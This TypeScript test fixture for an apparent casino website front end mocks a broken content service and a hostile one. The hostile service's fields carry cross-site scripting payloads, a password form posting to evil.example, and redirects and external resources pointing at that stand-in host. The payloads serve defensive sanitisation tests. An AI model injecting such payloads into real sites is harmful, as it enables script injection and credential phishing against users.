import type { ContentAnswer } from './front.ts'
import { configuration } from './production.ts'

const simple =
  '<p>Fine</p><script>document.title="taken"</script><b onclick="document.title=1">bold</b><form action="//evil.example"></form>'

/**
 * The replies of a faulty content service. It never responds for one collection, and returns invalid data or texts with
 * scripts for the others.
 */
export const brokenContent: Readonly<Record<string, ContentAnswer>> = {
  home: undefined,
  games: '<html><script>document.title="taken"</script></html>',
  promo_cards: '{"not": "a list"}',
  about_us: [
    { id: 1, slug: 'a', title: { rendered: 'It&#8217;s us' }, description: simple, column: 1, priority: 1 },
    { id: 'broken' },
  ],
  self_excluded: [{ id: 2, slug: 'b', title: { rendered: 'Notice' }, description: simple, column: 1, priority: 1 }],
}

const taken = `document.documentElement.dataset.taken='yes'`

/** Returns a text with markup that must not take effect. It contains `word`, by which a test finds it on the page. */
const text = (word: string): string =>
  `${word}</title></p>"'><script>${taken}</script><img src=x onerror="${taken}"><style>*{display:none}</style>\u0000\uD800`

const html = (word: string): string =>
  [
    `<p onclick="${taken}" style="position:fixed;inset:0">${word}</p>`,
    `<script>${taken}</script><style>*{display:none}</style><link rel="stylesheet" href="https://evil.example/a.css">`,
    `<iframe src="https://evil.example/" srcdoc="<script>parent.${taken}</script>"></iframe><object data="//evil.example"></object>`,
    `<a href="javascript:${taken}">leads nowhere</a><a href="data:text/html,<script>${taken}</script>">nor here</a>`,
    `<svg onload="${taken}"><use href="https://evil.example/a.svg#a"/></svg><math><mtext><img src=x onerror="${taken}"></mtext></math>`,
    `<img src="https://evil.example/a.png"><img src="//evil.example/b.png"><img src="javascript:${taken}">`,
    `<form action="https://evil.example/"><input name="password"><button>Log in</button></form>`,
    `</div></article></main><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    '<b>'.repeat(3000),
  ].join('')

const script = `javascript:${taken}`
const foreign = { url: 'https://evil.example/a.webp' }
const running = { url: script }
const title = (word: string) => ({ rendered: text(word) })

const game = (id: number, change: object = {}) => ({
  id,
  slug: `g${id}`,
  title: title(`Game ${id}`),
  game_id: `g${id}`,
  game_rtp: '96.00',
  game_information: html(`Rules of ${id}`),
  game_priority: String(id),
  game_thumbnail: {
    ...foreign,
    color: 'url(https://evil.example/a.svg#a)',
    srcset: `${foreign.url} 240w`,
    width: '480',
  },
  acf: {
    game_provider: { slug: 'evil"><script>', name: text('Provider') },
    game_category: [text('Slots')],
    game_platform: { slug: 'BAIZE' },
    play_for_free: '1',
    isAuthenticated: false,
    keywords: text('reels'),
    device: 'all',
    ...change,
  },
})

const post = (word: string) => [
  { id: 1, slug: 'a" onclick="x', title: title(word), description: html(word), column: 1e9, priority: 1 },
  { id: 1, slug: 'twice', title: title('Twice'), description: html('Twice'), column: 1, priority: 1 },
]

const image = { url: '/favicon.svg' }

/** The replies of a content service that an attacker controls: every field contains an attack. */
export const hostileContent: Readonly<Record<string, readonly object[]>> = {
  configuration: [
    {
      ...configuration,
      cookie_message: text('Cookies'),
      footer_text: [text('Footer'), { evil: true }],
      footer_images: [
        { image: foreign, alt: text('Help'), url: 'https://help.example/' },
        { image, alt: 'Runs', url: script },
      ],
      banner_links: [{ title: 'BINGO', url: script }],
      copyright: text('Copyright'),
      ips_endpoint: script,
    },
  ],
  games: [game(1), game(1), game(2, { isAuthenticated: '1' }), game(3, { device: 'fridge' }), { id: 4 }, game(5)],
  categories: [
    { id: 1, slug: 'slots"><script>', name: text('Slots'), priority: '1', parent: 2 },
    { id: 2, slug: 'other', name: text('Other'), priority: -1e9, parent: 1 },
  ],
  providers: [{ id: 1, slug: 'evil', name: text('Provider') }],
  home: [
    {
      id: 1,
      title: title('Welcome'),
      path: '/',
      background_image: foreign,
      mobile_background_image: running,
      foreground_image: running,
      hero_carousel: [
        { type: 'video', image: foreign, video: foreign, alt: text('Film') },
        { type: 'image', image: running, alt: '' },
      ],
      welcome_message: text('Message'),
      mobile_welcome_message: text('Message'),
      welcome_action: [
        { type: 'unAuthenticated', label: text('Join'), action: 'SIGNUP' },
        { type: 'unAuthenticated', label: 'Run', action: script },
      ],
      activity_bar: false,
      scroll_arrow: '1',
    },
  ],
  promo_cards: [script, '//evil.example', String.raw`/\evil.example`, 'data:text/html,x'].map((url, index) => ({
    id: index + 1,
    title: title(`Card ${index}`),
    text: text('Text'),
    display_page: ['home', 'evil'],
    priority: String(index),
    size: '6',
    image: foreign,
    mobile_image: running,
    action: script,
    url,
  })),
  bonus_plans: [
    {
      id: 1,
      bonus_plan_id: text('plan'),
      title: title('Plan'),
      image: foreign,
      description: html('Plan'),
      terms_and_conditions: html('Terms'),
      free_spins: '10',
      isFeatured: '1',
    },
  ],
  about_us: post('About'),
  translations: [
    { id: 1, slug: 'en', texts: { 'shell.header.signIn': text('In'), 'shell.header.signUp': { evil: true } } },
  ],
}
